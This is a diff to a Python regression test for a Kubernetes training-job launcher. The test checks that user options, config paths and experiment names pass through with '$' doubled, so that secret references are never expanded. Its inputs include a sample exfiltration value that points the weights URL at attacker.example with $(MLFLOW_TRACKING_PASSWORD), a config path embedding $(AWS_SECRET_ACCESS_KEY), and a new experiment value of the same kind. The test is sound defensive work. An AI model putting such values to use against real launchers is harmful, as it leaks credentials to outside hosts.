@@ -408,8 +408,11 @@ def test_the_users_words_reach_the_trainer_as_typed_and_never_expand_a_secret(tm
     is doubled (Kubernetes reads $$ as one $); torchrun's own $(PET_NNODES) still expands. Found by
     the red team of 2026-12-03."""
     opts = "TRAIN.WEIGHTS https://attacker.example/$(MLFLOW_TRACKING_PASSWORD) NAME 'cost $$5'"
-    run, _ = launch(tmp_path, compiled, opts=opts, config="/app/$(AWS_SECRET_ACCESS_KEY).yaml")
+    experiment = "$(MLFLOW_TRACKING_PASSWORD)"  # helper-54: an env value, expanded from the Secret's entries before it
+    run, _ = launch(tmp_path, compiled, opts=opts, config="/app/$(AWS_SECRET_ACCESS_KEY).yaml", experiment=experiment)
     assert run.returncode == 0, run.stderr
+    env = {e["name"]: e for e in kube.created[0]["spec"]["trainer"]["env"]}
+    assert env["MLFLOW_EXPERIMENT_NAME"]["value"] == "$$(MLFLOW_TRACKING_PASSWORD)"
     args = kube.created[0]["spec"]["trainer"]["args"]
     assert args[args.index("--opts") + 1] == opts.replace("$", "$$")
     assert args[args.index("--config") + 1] == "/app/$$(AWS_SECRET_ACCESS_KEY).yaml"
